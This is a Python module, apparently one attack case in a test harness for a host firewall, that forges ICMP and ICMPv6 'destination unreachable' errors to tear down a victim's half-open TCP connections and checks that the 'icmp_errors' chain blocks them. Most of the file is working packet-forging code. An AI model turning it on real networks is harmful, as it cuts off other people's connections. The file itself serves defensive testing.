"""A neighbour ends a victim's half-open connection by an error of ICMP.

It is given what it would have to guess: the ports of both ends and the number that the server begins with. It says that the victim cannot be
reached, of a packet that bears them, as a guest sees it and as it is on the host. The filter of a socket does not see such errors. Gained:
a connection that is refused before it is whole. In the way: no true error names our sockets, so the host drops those that do (chain
`icmp_errors`).
"""

import re
import struct
import time

import attack
import rules
import space
import wire
from attack import Outcome
from field import METADATA, Connection, Field
from host import Host

TRIES = 4
UNREACHABLE = {4: (3, 1), 6: (1, 3)}
# Keeps back the word by which a guest's own kernel makes a connection whole; its first request does too.
SLOW = ("add table inet slow; add chain inet slow out { type filter hook output priority 0; }; "
        "add rule inet slow out tcp dport 80 tcp flags & (syn | ack | psh) == ack drop")


class Attack(attack.Attack):
    """The forger hears victim-6, which is slow to confirm."""

    hosts = ("address", "redirect")
    spies = ("tap-6",)
    victims = slice(0, -1)
    proofs = (("address", 4), ("redirect", 4))
    numbers: tuple[int, ...] = ()

    def prepare(self, host: Host) -> None:
        """Finds the sockets' ports."""
        found = {int(match[1]) for rule in rules.listed() if (match := re.search(r"tcp dport set (\d+)", rule.text))}
        self.numbers = tuple(sorted(found))

    def attack(self, field: Field) -> None:
        """An error about each SYN-ACK, for every port that it may have on the host."""
        card, heard, victim, sent = wire.Wire(), field.spies[0], field.own(field.victims[-1]), 0
        own = wire.ip({4: "192.0.2.1", 6: "2001:db8:2::1"}[field.family])
        field.ready()
        while field.goes_on():
            for segment in heard.segments(0.05):
                if segment.destination != victim or segment.flags & (wire.SYN | wire.ACK) != wire.SYN | wire.ACK:
                    continue
                for source in (field.metadata, own):
                    for number in (80, *self.numbers):
                        begin = struct.pack("!HHI", number, segment.ports[1], segment.sequence)
                        card.send(self._error(field, own, (source, victim), begin))
                        sent += 1
            for _ in card.received(0):
                pass
        field.report["sent"] = sent

    @staticmethod
    def _error(field: Field, to: bytes, pair: tuple[bytes, bytes], begin: bytes) -> bytes:
        kind, code = UNREACHABLE[field.family]
        if field.family == 4:
            body = struct.pack("!BBHI", kind, code, 0, 0) + wire.ipv4(*pair, begin)
            body = body[:2] + struct.pack("!H", wire.checksum(body)) + body[4:]
            return wire.ethernet(field.bridge, field.me.link, wire.IPV4, wire.ipv4(field.own(), to, body, 1))
        body = struct.pack("!BBHI", kind, code, 0, 0) + wire.ipv6(*pair, begin)
        return wire.ethernet(field.bridge, field.me.link, wire.IPV6, wire.ipv6(
            field.own(), to, wire.icmpv6(field.own(), to, body), wire.ICMPV6))

    def during(self, host: Host, outcome: Outcome) -> None:
        """Connects as victim-6, and asks a moment later."""
        name, statuses = host.victims[-1].name, []
        space.call("ip", "netns", "exec", name, "nft", SLOW)
        for _ in range(TRIES):
            with space.inside(name):
                connection = Connection(METADATA[outcome.family])
            time.sleep(0.3)
            statuses.append(connection.ask()[0])
            connection.close()
        space.call("ip", "netns", "exec", name, "nft", "delete table inet slow")
        outcome.host_report["statuses"] = statuses

    def gained(self, outcome: Outcome) -> str | None:
        """Connections that were refused."""
        if outcome.forger["sent"] < TRIES:
            raise space.Failure(f"only {outcome.forger['sent']} errors were sent: the attack does not work")
        refused = sum(status != 200 for status in outcome.host_report["statuses"])
        if refused:
            return f"{refused} of victim-6's {TRIES} half-open connections ended"
        return f"victims lost {outcome.lost} requests" if outcome.lost else None

    def weaken(self, host: Host) -> None:
        """Lets every error in."""
        rules.remove(r".", "inet", "icmp_errors")
